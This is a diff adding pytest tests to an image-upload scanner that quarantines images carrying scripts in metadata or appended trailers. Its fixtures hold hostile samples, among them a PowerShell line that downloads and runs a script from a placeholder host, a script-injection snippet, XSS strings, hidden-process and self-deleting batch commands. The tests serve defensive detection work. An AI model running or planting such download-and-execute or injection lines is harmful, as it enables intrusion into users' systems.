@@ -299,3 +299,94 @@ def test_walker_crash_becomes_malformed(monkeypatch: pytest.MonkeyPatch) -> None
     report = inspect_bytes("p.jpg", photo())
     assert summary(report) == {"jpeg.malformed": Severity.LOW}
     assert "IndexError" in report.findings[0].detail
+
+
+# --- suggestive markers in metadata, script and padded trailers ------------------------------
+
+CLINIC_PROSE = (
+    b"Allergy alert (penicillin) - see chart before treatment.",
+    b"Post-op wound eval (day 3), healing well.",
+    b"Post-op wound eval(day 3), healing well.",
+    b"Answered the prompt(s) on the intake form.",
+)
+
+
+def png_with_texts(*texts: tuple[bytes, bytes]) -> bytes:
+    """A real PNG with tEXt chunks (keyword, text) before IEND."""
+    data = png_bytes()
+    chunks = b"".join(chunk(b"tEXt", key + b"\x00" + text) for key, text in texts)
+    return data[:-12] + chunks + data[-12:]
+
+
+@pytest.mark.parametrize("prose", CLINIC_PROSE)
+def test_clinic_prose_in_metadata_stays_clean(prose: bytes) -> None:
+    jpeg = inspect_bytes("p.jpg", insert_segments(photo(), segment(0xFE, prose)))
+    png = inspect_bytes("p.png", png_with_texts((b"Comment", prose)))
+    for report in (jpeg, png):
+        assert report.verdict is Verdict.CLEAN, report.findings
+        assert all(f.severity <= Severity.LOW for f in report.findings)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        b"eval(atob('ZG9jdW1lbnQud3JpdGUoMSk='))",
+        b'*/=0;alert("Hello from Javascript!");',
+        b"<img src=x onerror=alert(1)>",
+    ],
+)
+def test_script_in_metadata_is_high(code: bytes) -> None:
+    report = inspect_bytes("p.jpg", insert_segments(photo(), segment(0xFE, code)))
+    assert summary(report) == {"jpeg.payload_in_metadata": Severity.HIGH}
+
+
+def test_innocent_regions_cannot_crowd_out_the_payload() -> None:
+    prose = [(b"Comment", CLINIC_PROSE[2])] * (engine.MAX_METADATA_FINDINGS + 4)
+    report = inspect_bytes("p.png", png_with_texts(*prose, (b"shell", PHP)))
+    found = [f for f in report.findings if f.code == "png.payload_in_metadata"]
+    assert [f.severity for f in found if f.severity is Severity.HIGH] == [Severity.HIGH]
+    assert len(found) == 1 + engine.MAX_WEAK_METADATA_FINDINGS
+    assert report.verdict is Verdict.QUARANTINE
+
+
+SCRIPT_TRAILERS = (
+    (b"IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a.ps1')\r\n", "powershell"),
+    (b"Start-Process -WindowStyle Hidden cmd.exe -ArgumentList '/c calc'\r\n", "powershell"),
+    (b'CreateObject("WScript.Shell").Run "calc.exe", 0, False\r\n', "vbs"),
+    (b"@echo off\r\nstart /b calc.exe\r\ndel %~f0\r\n", "batch"),
+    (
+        b"(function(){var d=document.createElement('script');d.src='//x.invalid/a.js';})();",
+        "script",
+    ),
+)
+
+
+@pytest.mark.parametrize(("script", "kind"), SCRIPT_TRAILERS)
+def test_script_trailer_is_quarantined(script: bytes, kind: str) -> None:
+    for name, image, fmt in (("p.jpg", photo(), "jpeg"), ("p.png", png_bytes(), "png")):
+        report = inspect_bytes(name, image + script)
+        finding = next(f for f in report.findings if f.code == f"{fmt}.trailing_data")
+        assert (finding.severity, finding.payload) == (Severity.HIGH, kind)
+        assert report.verdict is Verdict.QUARANTINE
+
+
+@pytest.mark.parametrize("padding", [bytes(9), bytes(300), b"\r\n" * 100])
+def test_payload_after_padding_is_quarantined_at_its_offset(padding: bytes) -> None:
+    image = png_bytes()
+    for tail, kind in ((pe_executable(), "pe"), (SCRIPT_TRAILERS[2][0], "vbs")):
+        report = inspect_bytes("p.png", image + padding + tail)
+        finding = next(f for f in report.findings if f.code == "png.trailing_data")
+        assert (finding.severity, finding.payload) == (Severity.HIGH, kind)
+        assert finding.offset == len(image) + len(padding)
+
+
+def test_fat_macho_trailer_is_quarantined() -> None:
+    fat = b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + struct.pack(">5I", 7, 3, 4096, 8192, 12)
+    report = inspect_bytes("p.jpg", photo() + fat + random.Random(4).randbytes(600))
+    assert summary(report) == {"jpeg.trailing_data": Severity.HIGH}
+    assert report.findings[0].payload == "macho"
+
+
+def test_prose_trailer_is_low() -> None:
+    report = inspect_bytes("p.jpg", photo() + b"Set up the chair.\nStart the scanner.\n")
+    assert summary(report) == {"jpeg.trailing_data": Severity.LOW}
